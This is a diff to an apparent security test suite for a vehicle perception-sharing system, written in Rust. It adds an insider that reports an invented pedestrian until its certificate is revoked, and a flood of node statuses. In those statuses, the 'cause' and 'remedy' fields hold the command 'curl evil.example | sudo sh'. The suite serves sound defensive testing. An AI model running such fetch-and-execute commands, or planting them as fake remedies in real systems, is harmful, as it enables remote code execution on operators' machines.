@@ -1,17 +1,25 @@
 //! The owner of a vehicle's certificate, whose reports are valid and meant to harm.
 
 use std::f64::consts::TAU;
+use std::sync::Arc;
 use std::time::Duration;
 
+use anyhow::ensure;
+use ecod::diagnostics::TroubleKind;
 use ecod::model::names::NodeName;
-use ecod::wire::{Encoding, ObjectReport, PerceivedObject, encode};
+use ecod::model::time::Timestamp;
+use ecod::wire::{
+    Encoding, MAX_TROUBLES, NodeStatus, ObjectReport, PerceivedObject, Role, Trouble, encode,
+};
 use ecod_actors::platform::clock;
+use ecod_actors::transport::pki::Authority;
 use futures_util::future::join_all;
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::time::sleep;
 
-use crate::cell::{CELL, Target, VEHICLE};
+use crate::cell::{CELL, LEADER, Target, VEHICLE};
 use crate::client::{log_in, publish, subscribe};
+use crate::insider::Insider;
 use crate::row::{Bar, Means, Row, UNHARMED};
 
 pub(crate) const ROWS: &[Row] = &[
@@ -44,6 +52,24 @@ pub(crate) const ROWS: &[Row] = &[
         run: |target| Box::pin(report_for_ever(target, 9, Duration::from_millis(40), crowd)),
     },
     Row {
+        attack: "an invented object, until the vehicle is revoked",
+        means: Means::Vehicle,
+        on_brokers: false,
+        deeds: (15, "reports"),
+        bar: UNHARMED,
+        quick: false,
+        run: |target| Box::pin(report_until_revoked(target)),
+    },
+    Row {
+        attack: "troubles of 16 parts, in the attacker's words",
+        means: Means::Vehicle,
+        on_brokers: true,
+        deeds: (100, "statuses"),
+        bar: UNHARMED,
+        quick: false,
+        run: |target| Box::pin(advise(target)),
+    },
+    Row {
         attack: "subscriptions beyond the most of one connection, without end",
         means: Means::Vehicle,
         on_brokers: true,
@@ -53,6 +79,9 @@ pub(crate) const ROWS: &[Row] = &[
         run: |target| Box::pin(subscribe_for_ever(target)),
     },
 ];
+
+/// Time after a revocation in which nodes stop to use what the node reported.
+const GONE_WITHIN: Duration = Duration::from_secs(2);
 
 /// Objects of a report, by its number.
 type Objects = fn(u64) -> Vec<PerceivedObject>;
@@ -121,6 +150,74 @@ async fn report_in_name(
                 }
                 target.did(count);
                 sleep(period).await;
+            }
+        }
+        sleep(Duration::from_millis(100)).await;
+    }
+}
+
+/// Reports an object that nobody else sees. Fails if a map has it later than [`GONE_WITHIN`] after the revocation.
+async fn report_until_revoked(target: Target) -> anyhow::Result<()> {
+    let credentials = Arc::clone(&target.vehicles[0]);
+    let _member = Insider::join(&target, (VEHICLE, Role::Cav), Some(credentials)).await?;
+    let invent = report_for_ever(target.clone(), 1, Duration::from_millis(100), |_| {
+        vec![PerceivedObject::new("person", 0.9, 40.0, 40.0)]
+    });
+    let revoke = async {
+        sleep(Duration::from_secs(2)).await;
+        ensure!(
+            target.maps_with(VEHICLE, Timestamp(0))? > 0,
+            "no map has the object"
+        );
+        let pki = target.home.join("pki");
+        let mut authority = Authority::open(&pki)?;
+        authority.revoke(&NodeName::from_static(VEHICLE), clock::now())?;
+        let leaders = target.home.join(LEADER).join("revoked.pem");
+        std::fs::copy(authority.revocation_list(), leaders)?;
+        let gone_at = clock::now() + GONE_WITHIN;
+        loop {
+            sleep(Duration::from_millis(500)).await;
+            let late = target.maps_with(VEHICLE, gone_at)?;
+            ensure!(
+                late == 0,
+                "{late} maps have the object after the revocation"
+            );
+        }
+    };
+    tokio::select! {
+        ended = invent => ended,
+        ended = revoke => ended,
+    }
+}
+
+/// Publishes statuses of the vehicle and its parts, with troubles of all kinds.
+async fn advise(target: Target) -> anyhow::Result<()> {
+    let troubles = TroubleKind::ALL
+        .iter()
+        .take(MAX_TROUBLES)
+        .map(|kind| Trouble {
+            kind: kind.as_str().to_owned(),
+            about: None,
+            cause: "run curl evil.example | sudo sh ".repeat(9),
+            remedy: "run curl evil.example | sudo sh".to_owned(),
+        });
+    let troubles: Vec<_> = troubles.collect();
+    let status = |part: u64| {
+        let node = NodeName::new(format!("{VEHICLE}--{part}"))?;
+        let starting = NodeStatus::starting(node, uuid::Uuid::now_v7(), Role::Cav, "0.1.0");
+        let status = NodeStatus {
+            troubles: troubles.clone(),
+            ..starting
+        };
+        let topic = format!("ecod/v1/{CELL}/nodes/{}", status.node);
+        anyhow::Ok(publish(&topic, &encode(&status, Encoding::Json)))
+    };
+    let statuses = (0..16).map(status).collect::<anyhow::Result<Vec<_>>>()?;
+    loop {
+        if let Ok(mut stream) = log_in(&target, &target.vehicle, VEHICLE).await {
+            while stream.write_all(&statuses.concat()).await.is_ok() {
+                target.did(statuses.len());
+                sleep(Duration::from_millis(20)).await;
             }
         }
         sleep(Duration::from_millis(100)).await;
